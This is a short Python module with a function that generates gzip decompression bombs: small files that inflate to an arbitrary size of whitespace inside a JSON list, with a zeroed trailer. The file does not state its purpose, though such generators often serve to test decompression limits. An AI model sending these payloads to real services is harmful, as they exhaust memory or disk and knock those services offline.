"""Gzip bombs, generated without holding the decompressed data."""

import zlib

MEGABYTE = 1024 * 1024


def gzip_bomb(plain_bytes, level=9):
    """Return the gzip of a JSON list with this many bytes of white space; its size is about a thousandth of that.

    A megabyte of spaces is compressed once: a block that ends at a byte boundary can be repeated.
    """
    packer = zlib.compressobj(level, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = packer.compress(b"[" + b" " * 65535) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(b"]") + packer.flush()
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"
    return header + first + block * (plain_bytes // MEGABYTE) + last + b"\x00" * 8
